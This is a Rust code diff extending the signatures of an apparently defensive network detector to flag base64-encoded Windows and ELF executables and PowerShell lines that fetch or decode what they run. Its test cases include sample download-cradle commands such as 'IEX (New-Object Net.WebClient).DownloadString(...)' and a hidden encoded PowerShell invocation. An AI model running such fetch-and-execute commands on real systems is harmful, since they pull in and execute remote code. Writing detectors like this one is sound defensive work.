@@ -7,6 +7,8 @@ use crate::port::Transport;
 
 /// The largest image that is believed to follow a length.
 const MAX_IMAGE: u32 = 256 << 20;
+/// Bytes of a first line that are looked at.
+const MAX_LINE: usize = 512;
 /// The DOS stub's message stands in the first bytes of every image that linkers make.
 const STUB: &[u8] = b"This program cannot be run in DOS mode";
 const STUB_WITHIN: usize = 256;
@@ -45,6 +47,10 @@ fn kind(bytes: &[u8]) -> Option<&'static str> {
         // magic of either width in either byte order, then a processor type (mach-o/loader.h)
         [0xfe, 0xed, 0xfa, 0xce | 0xcf, 0 | 1, 0, 0, 7 | 12 | 18]
         | [0xce | 0xcf, 0xfa, 0xed, 0xfe, 7 | 12 | 18, 0, 0, 0 | 1] => Some("Mach-O executable"),
+        [b'T', b'V', b'q' | b'p' | b'r', ..] if bytes.starts_with(b"TVqQAAMAAAAEAAAA") => {
+            Some("Windows executable in base64")
+        }
+        [b'f', b'0', b'V', b'M', b'R', b'g', b'I' | b'E', _] => Some("ELF executable in base64"),
         [b'd', b'e', b'x', b'\n', b'0', b'3', _, 0] => Some("Android executable"),
         _ => None,
     }
@@ -60,6 +66,9 @@ fn is_portable(bytes: &[u8]) -> bool {
 
 fn script(payload: &Payload<'_>) -> Option<String> {
     starts(payload).into_iter().flatten().find_map(|(bytes, place)| {
+        if let Some(line) = download_line(bytes) {
+            return Some(format!("{}{place}", quote(line)));
+        }
         bytes.strip_prefix(b"#!")?;
         let line = first_line(bytes);
         let interpreter = line.strip_prefix(b"#!")?.trim_ascii_start();
@@ -67,6 +76,21 @@ fn script(payload: &Payload<'_>) -> Option<String> {
             interpreter.starts_with(b"/") && line.len() <= 128 && line.iter().all(|byte| (0x20..0x7f).contains(byte));
         known.then(|| format!("{}{place}", quote(line)))
     })
+}
+
+/// A line of PowerShell that fetches and runs something, or that hides in base64 what it runs.
+fn download_line(bytes: &[u8]) -> Option<&[u8]> {
+    if !matches!(bytes.first()?, b'I' | b'i' | b'p' | b'P' | b'$') {
+        return None;
+    }
+    let line = first_line(&bytes[..bytes.len().min(MAX_LINE)]);
+    let lower = line.to_ascii_lowercase();
+    let has = |word: &[u8]| memchr::memmem::find(&lower, word).is_some();
+    let runs =
+        lower.starts_with(b"iex") || lower.starts_with(b"powershell") || has(b"invoke-expression") || has(b"iex(");
+    let fetches =
+        has(b"net.webclient") || has(b"downloadstring") || has(b" -enc") || has(b" -e ") || has(b"frombase64string");
+    (runs && fetches).then_some(line)
 }
 
 const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0";
@@ -78,13 +102,18 @@ const PE: &[u8] =
 pub const IMAGE: Signature = Signature {
     id: "executable.image",
     protocol: "",
-    about: "The head of an executable (Windows PE, ELF, Mach-O, Android) at the start of a message, after a length, or as an HTTP body.",
+    about: "The head of an executable (Windows PE, ELF, Mach-O, Android; the first two also in base64) at the start of a message, after a length, or as an HTTP body.",
     class: Class::Suspicious,
     weight: Weight::STRONG,
     attack: Some("T1105"),
     sender: Sender::Either,
     see: image,
-    hits: &[(Transport::Tcp, ELF), (Transport::Tcp, STAGED_ELF), (Transport::Tcp, PE)],
+    hits: &[
+        (Transport::Tcp, ELF),
+        (Transport::Tcp, STAGED_ELF),
+        (Transport::Tcp, PE),
+        (Transport::Tcp, b"TVqQAAMAAAAEAAAA//8AALgAAAA"),
+    ],
     misses: &[
         (Transport::Tcp, b"MZ is how it begins, and this is no program at all"),
         (Transport::Tcp, b"\x7fELF\x09\x09\x09\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0"),
@@ -95,7 +124,7 @@ pub const IMAGE: Signature = Signature {
 pub const SCRIPT: Signature = Signature {
     id: "executable.script",
     protocol: "",
-    about: "The first line of a script (#!/bin/sh …) at the start of a message, after a length, or as an HTTP body.",
+    about: "The first line of a script (#!/bin/sh …), or a line of PowerShell that fetches or unpacks what it runs, at the start of a message, after a length, or as an HTTP body.",
     class: Class::Suspicious,
     weight: Weight::MODERATE,
     attack: Some("T1105"),
@@ -104,6 +133,13 @@ pub const SCRIPT: Signature = Signature {
     hits: &[
         (Transport::Tcp, b"#!/bin/sh\nrm -rf /tmp/x\n"),
         (Transport::Tcp, b"HTTP/1.0 200 OK\r\n\r\n#!/usr/bin/env python3\n"),
+        (Transport::Tcp, b"powershell -nop -w hidden -enc SQBFAFgA\r\n"),
+        (Transport::Tcp, b"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a')\n"),
     ],
-    misses: &[(Transport::Tcp, b"#!"), (Transport::Tcp, b"# !/bin/sh\n"), (Transport::Tcp, b"#!\x00\x01/\n")],
+    misses: &[
+        (Transport::Tcp, b"#!"),
+        (Transport::Tcp, b"# !/bin/sh\n"),
+        (Transport::Tcp, b"#!\x00\x01/\n"),
+        (Transport::Tcp, b"powershell is a shell\n"),
+    ],
 };
